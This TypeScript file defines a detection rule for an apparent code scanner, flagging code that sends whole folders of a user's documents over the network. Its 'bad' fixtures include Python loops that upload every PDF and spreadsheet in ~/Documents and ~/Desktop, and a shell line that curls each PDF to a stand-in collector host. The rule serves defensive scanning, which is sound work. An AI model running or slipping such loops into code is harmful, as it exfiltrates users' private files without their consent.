import { anyArgument, call, matches } from "../match.ts";
import { defineRule } from "../rule.ts";
import { SENDS } from "../vocabulary/network-calls.ts";
import { USER_FILES } from "../vocabulary/places.ts";
import { SHELL_SENDS } from "../vocabulary/shell-commands.ts";

export default defineRule({
  id: "user-files-sent",
  category: "data_exfiltration",
  severity: "high",
  confidence: "high",
  languages: ["python", "javascript", "shell"],
  title: "whatever lies in the user's folders is sent over the network",
  why: "A pattern takes every letter, contract and picture that is there; the user has chosen none of them.",
  fix: "Send the one file that the user names.",
  references: ["ATT&CK T1005", "ATT&CK T1119", "ATT&CK T1041"],
  match: call({ of: [...SENDS, ...SHELL_SENDS], where: anyArgument(matches(USER_FILES)) }),
  bad: [
    'import glob, os, requests\nfor path in glob.glob(os.path.expanduser("~/Documents/*.pdf")):\n    requests.post(url, data=open(path, "rb").read())',
    'import glob, os, urllib.request\nfor pattern in ["~/Desktop/**/*.xlsx", "~/Documents/*.docx"]:\n    for path in glob.glob(os.path.expanduser(pattern)):\n        urllib.request.urlopen(url, data=open(path, "rb").read())',
    { "run.sh": "for f in ~/Documents/*.pdf; do curl -F f=@$f https://collector.example; done" },
  ],
  good: [
    'import glob, os\nprint(glob.glob(os.path.expanduser("~/Documents/*.pdf")))',
    'import os, requests\nrequests.post(url, data=open(os.path.expanduser("~/Documents/report.pdf"), "rb"))',
    { "run.sh": "ls ~/Documents/*.pdf\ncurl https://example.com" },
  ],
});
